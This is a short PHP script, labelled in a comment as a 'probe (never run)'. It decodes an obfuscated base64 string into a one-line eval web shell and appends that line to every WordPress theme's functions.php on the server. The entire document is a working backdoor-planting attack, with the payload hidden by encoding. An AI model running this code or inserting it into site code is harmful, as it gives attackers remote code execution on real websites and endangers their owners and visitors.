<?php
// probe (never run): a decoded line appended to every theme's functions.php
$line = base64_decode('QGV2YWwoJF9QT1NUWyd4J10pOw==');
foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/wp-content/themes/*/functions.php') as $fn) {
    $body = file_get_contents($fn);
    file_put_contents($fn, $body . "\n" . $line);
}
